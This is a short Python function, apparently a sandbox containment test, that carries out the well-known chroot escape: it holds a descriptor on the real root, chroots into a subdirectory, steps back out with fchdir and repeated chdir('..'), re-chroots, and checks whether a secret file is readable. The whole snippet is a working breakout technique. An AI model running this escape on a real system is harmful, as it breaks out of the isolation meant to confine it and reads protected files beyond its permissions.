# A second root inside the first leaves the way up open.
def attempt():
    os.makedirs("/tmp/inner", exist_ok=True)
    hold = os.open("/", os.O_RDONLY)
    os.chroot("/tmp/inner")
    os.fchdir(hold)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    return readable(SECRET)
